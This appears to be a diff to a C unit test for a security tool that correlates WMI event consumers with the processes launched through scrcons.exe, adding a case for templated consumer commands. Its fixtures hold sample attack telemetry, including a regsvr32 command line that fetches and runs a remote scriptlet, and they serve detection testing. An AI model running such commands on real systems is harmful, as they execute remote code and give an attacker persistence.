@@ -693,23 +693,31 @@ wmi_consumer(const char *host, uint64_t t, const char *name,
 }
 
 static struct ev_event *
-wmi_proc(const char *host, uint64_t t, const char *guid, const char *cmd,
-    const char *parent)
+wmi_proc_img(const char *host, uint64_t t, const char *guid,
+    const char *img, const char *cmd, const char *parent)
 {
 	struct ev_pair *d = ev_arena_alloc(&arena, 6 * sizeof(*d));
 
 	ck_assert_ptr_nonnull(d);
 	d[0] = (struct ev_pair){ "ProcessGuid", guid };
 	d[1] = (struct ev_pair){ "ProcessId", "4242" };
-	d[2] = (struct ev_pair){ "Image",
-	    "C:\\Windows\\System32\\regsvr32.exe" };
+	d[2] = (struct ev_pair){ "Image", img };
 	d[3] = (struct ev_pair){ "CommandLine", cmd };
 	d[4] = (struct ev_pair){ "ParentImage", parent };
 	d[5] = (struct ev_pair){ "ParentProcessGuid", "{none}" };
 	return wmi_at(host, t, 1, d, 6);
 }
 
+static struct ev_event *
+wmi_proc(const char *host, uint64_t t, const char *guid, const char *cmd,
+    const char *parent)
+{
+	return wmi_proc_img(host, t, guid,
+	    "C:\\Windows\\System32\\regsvr32.exe", cmd, parent);
+}
+
 #define SCRCONS	"C:\\Windows\\System32\\wbem\\scrcons.exe"
+#define CMD_EXE	"C:\\Windows\\System32\\cmd.exe"
 
 START_TEST(test_wmi_correlate)
 {
@@ -746,6 +754,13 @@ START_TEST(test_wmi_correlate)
 	/* A: the command, but from explorer: not the consumer's */
 	v[n++] = wmi_proc("A", 23, "{p4}", "regsvr32 /s /i:http://a/3.sct "
 	    "scrobj.dll", "C:\\Windows\\explorer.exe");
+	/* C: a template's %Property% is what WMI put there */
+	v[n++] = wmi_consumer("C", 24, " \"T\"", " \"cmd.exe /c echo "
+	    "%ProcessId% >> c:\\\\t\\\\%TargetInstance.Name%.txt 100%\"");
+	v[n++] = wmi_proc_img("C", 25, "{p5}", CMD_EXE,
+	    "cmd.exe /c echo 4242 >> c:\\t\\notepad.exe.txt 100%", SCRCONS);
+	v[n++] = wmi_proc_img("C", 26, "{p6}", CMD_EXE,
+	    "cmd.exe /c echo 4242 >> c:\\t\\notepad.exe.log 100%", SCRCONS);
 	for (size_t i = 0; i < n; i++)
 		v[i]->seq = (uint32_t)i;
 	ck_assert_int_eq(corr_build(v, n, &c, NULL), 0);
@@ -753,6 +768,8 @@ START_TEST(test_wmi_correlate)
 	ck_assert_ptr_null(corr_origin(c, v[6]));
 	ck_assert_ptr_eq(corr_origin(c, v[7]), v[2]);
 	ck_assert_ptr_null(corr_origin(c, v[8]));
+	ck_assert_ptr_eq(corr_origin(c, v[10]), v[9]);
+	ck_assert_ptr_null(corr_origin(c, v[11]));
 	ck_assert_uint_eq(corr_started(c, v[4], ran, 4), 1);
 	ck_assert_ptr_eq(ran[0], v[5]);
 	ck_assert_uint_eq(corr_started(c, v[1], ran, 4), 0);
